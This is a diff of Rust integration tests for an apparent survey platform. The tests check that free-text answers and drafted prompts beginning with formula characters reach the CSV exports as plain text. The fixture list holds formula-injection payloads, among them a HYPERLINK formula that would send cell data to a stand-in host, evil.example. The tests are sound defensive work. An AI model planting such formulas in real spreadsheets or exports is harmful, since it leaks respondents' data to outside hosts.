@@ -285,3 +285,156 @@ async fn a_position_taken_before_more_responses_were_submitted_is_refused() {
     let fresh = raw_page(&lead, &id, Some(100), None).await;
     assert_eq!(fresh.ok()["administration"]["responses"]["edges"].as_array().map(Vec::len), Some(7));
 }
+
+/// A cell a spreadsheet would run as a formula: one starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return, unless it is a plain number.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.parse::<f64>().is_err() && cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Every cell of `csv`, row by row, as a spreadsheet reads it.
+fn cells(csv: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(csv.as_bytes())
+        .records()
+        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// What respondents on an open link typed into a free-text answer, hoping a lead opens the export
+/// in a spreadsheet.
+const FORMULAS: [&str; 6] =
+    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=2+2"];
+
+#[tokio::test]
+async fn free_text_formulas_from_an_open_link_reach_the_raw_export_as_text() {
+    let app = spawn_app().await;
+    let lead = app.sign_in("lead@kings.demo.orb").await;
+    let instruments =
+        lead.graphql("{ instruments(owner: { state: true }) { key latestPublished { id } } }", json!({})).await;
+    let input = json!({
+        "countyId": app.county_id("kings").await,
+        "instrumentVersionId": orb_tests::state_instrument_version(instruments.ok()),
+        "title": "Formula wave",
+        "perspectives": ["SUPERVISOR", "SOCIAL_WORKER"],
+        "anonymity": "ANONYMOUS",
+        "minGroupSize": 5,
+        "opensAt": (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339(),
+        "closesAt": (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339(),
+    });
+    let (id, _) = lead.open_wave_with_codes(input, 1).await;
+    let link = lead
+        .graphql("mutation($id: ID!) { enableOpenLink(administrationId: $id) { code } }", json!({ "id": id }))
+        .await;
+    let code = link.ok()["enableOpenLink"]["code"].as_str().expect("the open link's code").to_owned();
+    for (n, formula) in FORMULAS.iter().enumerate() {
+        let started = app
+            .anonymous()
+            .graphql("mutation($code: String!) { startResponse(code: $code) { token } }", json!({ "code": code }))
+            .await;
+        let respondent = app.with_token(started.ok()["startResponse"]["token"].as_str().expect("a respondent token"));
+        let submitted = respondent
+            .graphql(
+                "mutation($input: AnswersInput!, $key: String!) { submitResponse(input: $input, idempotencyKey: $key) { status } }",
+                json!({ "input": { "answers": { "FIT1": 4, "FIT_HELP": formula }, "perspective": "SOCIAL_WORKER" }, "key": format!("formula-{n}") }),
+            )
+            .await;
+        assert_eq!(submitted.ok()["submitResponse"]["status"], "SUBMITTED");
+    }
+    lead.graphql("mutation($id: ID!) { closeAdministration(id: $id) { status } }", json!({ "id": id })).await.ok();
+
+    let (status, csv) =
+        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/responses.csv")).await;
+    assert_eq!(status, StatusCode::OK, "{csv}");
+    let rows = cells(&csv);
+    let answer = rows[0].iter().position(|c| c == "answer").expect("an answer column");
+    let item = rows[0].iter().position(|c| c == "item").expect("an item column");
+    let mut texts: Vec<&str> = rows.iter().filter(|r| r[item] == "FIT_HELP").map(|r| r[answer].as_str()).collect();
+    texts.sort_unstable();
+    let mut expected: Vec<String> = FORMULAS.iter().map(|f| format!("'{}", f.trim_start())).collect();
+    expected.sort();
+    assert_eq!(texts, expected, "each free-text formula is written as text, its trimmed tab or CR included");
+    for row in &rows {
+        assert!(row.iter().all(|cell| !runs_as_formula(cell)), "no cell a spreadsheet runs: {row:?}");
+    }
+    assert!(rows.iter().any(|r| r[item] == "FIT1" && r[answer] == "4"), "a Likert answer stays a number");
+}
+
+#[tokio::test]
+async fn a_drafted_prompt_and_a_negative_number_reach_the_dictionary_and_export_safely() {
+    let app = spawn_app().await;
+    let lead = app.sign_in("lead@kings.demo.orb").await;
+    let instruments =
+        lead.graphql("{ instruments(owner: { state: true }) { key latestPublished { id } } }", json!({})).await;
+    let state = orb_tests::state_instrument_version(instruments.ok());
+    let adapted = lead
+        .graphql(
+            "mutation($input: AdaptInstrumentInput!) { adaptInstrumentVersion(input: $input) { id } }",
+            json!({ "input": { "versionId": state, "countyId": app.county_id("kings").await, "key": "kings-formula", "name": "Kings" } }),
+        )
+        .await;
+    let draft = adapted.ok()["adaptInstrumentVersion"]["id"].as_str().expect("a draft").to_owned();
+    let both = |text: &str| json!([{ "language": "en", "text": text }, { "language": "es", "text": text }]);
+    lead.graphql(
+        "mutation($v: ID!, $input: ItemPatchInput!) { updateInstrumentItem(versionId: $v, code: \"FIT1\", input: $input) { id } }",
+        json!({ "v": draft, "input": { "prompt": both(FORMULAS[0]) } }),
+    )
+    .await
+    .ok();
+    lead.graphql(
+        "mutation($v: ID!, $input: ItemInput!) { addInstrumentItem(versionId: $v, input: $input) { id } }",
+        json!({ "v": draft, "input": { "code": "BALANCE", "domain": "FIT", "kind": "NUMBER", "min": -10.0, "max": 10.0, "prompt": both("-2+3 is your balance?") } }),
+    )
+    .await
+    .ok();
+    let published = lead
+        .graphql("mutation($v: ID!) { publishInstrumentVersion(versionId: $v) { status } }", json!({ "v": draft }))
+        .await;
+    assert_eq!(published.ok()["publishInstrumentVersion"]["status"], "PUBLISHED");
+    let input = json!({
+        "countyId": app.county_id("kings").await,
+        "instrumentVersionId": draft,
+        "title": "Balance wave",
+        "perspectives": ["SOCIAL_WORKER"],
+        "anonymity": "ANONYMOUS",
+        "minGroupSize": 5,
+        "opensAt": (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339(),
+        "closesAt": (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339(),
+    });
+    let (id, _) = lead.open_wave_with_codes(input, 1).await;
+    let forms: Vec<_> = (0..5)
+        .map(|n| json!({ "idempotencyKey": format!("balance-{n}"), "response": { "answers": { "FIT1": 3, "BALANCE": -3, "FIT_HELP": "@SUM(1)" }, "perspective": "SOCIAL_WORKER" } }))
+        .collect();
+    let stored = crate::results::enter_paper(&lead, &id, &forms).await;
+    assert_eq!(stored.ok()["enterPaperForms"]["stored"].as_array().map(Vec::len), Some(5));
+    lead.graphql("mutation($id: ID!) { closeAdministration(id: $id) { status } }", json!({ "id": id })).await.ok();
+
+    let (status, dictionary) =
+        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/dictionary.csv")).await;
+    assert_eq!(status, StatusCode::OK, "{dictionary}");
+    let rows = cells(&dictionary);
+    let prompt = |code: &str| rows.iter().find(|r| r[0] == code).and_then(|r| r.last().cloned());
+    assert_eq!(prompt("FIT1"), Some(format!("'{}", FORMULAS[0])), "the drafted prompt is text");
+    assert_eq!(prompt("BALANCE").as_deref(), Some("'-2+3 is your balance?"));
+    assert!(rows.iter().flatten().all(|cell| !runs_as_formula(cell)), "{dictionary}");
+
+    let (_, raw) =
+        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/responses.csv")).await;
+    let rows = cells(&raw);
+    let balances: Vec<&str> = rows.iter().filter(|r| r[6] == "BALANCE").map(|r| r[9].as_str()).collect();
+    assert_eq!(balances, vec!["-3"; 5], "a negative number answer stays a number");
+    assert!(rows.iter().filter(|r| r[6] == "FIT_HELP").all(|r| r[9] == "'@SUM(1)"), "{raw}");
+    assert!(rows.iter().flatten().all(|cell| !runs_as_formula(cell)), "{raw}");
+
+    let (_, results) =
+        export(&app, Some("lead@kings.demo.orb"), &format!("/exports/administrations/{id}/results.csv")).await;
+    let rows = cells(&results);
+    assert!(rows.len() > 1, "{results}");
+    assert!(rows.iter().flatten().all(|cell| !runs_as_formula(cell)), "{results}");
+    assert!(
+        rows.iter().skip(1).all(|r| r.get(5).is_none_or(|n| n.is_empty() || n.parse::<f64>().is_ok())),
+        "n stays a number"
+    );
+}
